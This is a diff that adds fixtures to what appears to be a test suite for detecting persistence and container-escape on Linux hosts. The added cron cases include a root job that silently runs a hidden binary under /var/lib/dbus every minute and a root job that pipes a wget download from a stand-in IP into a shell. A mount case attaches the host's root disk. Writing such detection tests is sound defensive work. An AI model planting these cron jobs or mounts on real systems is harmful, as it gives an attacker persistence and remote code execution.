@@ -165,6 +165,26 @@ _CRON = (
         role="database",
     ),
     _cron(
+        "a program among data",
+        _CRON_D,
+        "root nohup /var/lib/dbus/x > /dev/null 2>&1",
+        "a program in /var/lib",
+        "* * * * *",
+    ),
+    _cron(
+        "a job of the application's own account",
+        f"{_SPOOL}/worker",
+        "/srv/app/bin/sync",
+        "a job of an account that can't log in",
+        role="build",
+    ),
+    _cron(
+        "a job that fetches and runs by one program",
+        _CRON_D,
+        "root busybox wget http://198.51.100.1/x -O- | busybox sh",
+        "a download piped to a shell",
+    ),
+    _cron(
         "a program in a home at every start",
         f"{_SPOOL}/ana",
         "/home/ana/bin/sync",
@@ -427,6 +447,14 @@ _KERNEL = (
         evidence="`mounts`: a cgroup file system outside /sys/fs/cgroup",
         steps=(_mount("/tmp/cgrp", "cgroup", "cgroup"),),
         expect=_found("mount:/tmp/cgrp"),
+        role="build",
+    ),
+    Entry(
+        id="T1611",
+        name="the machine's own disk mounted once more",
+        evidence="`mounts`: the root's device at another place",
+        steps=(_mount("/mnt/h", "/dev/vda1", "ext4"),),
+        expect=_found("mount:/mnt/h"),
         role="build",
     ),
     Entry(
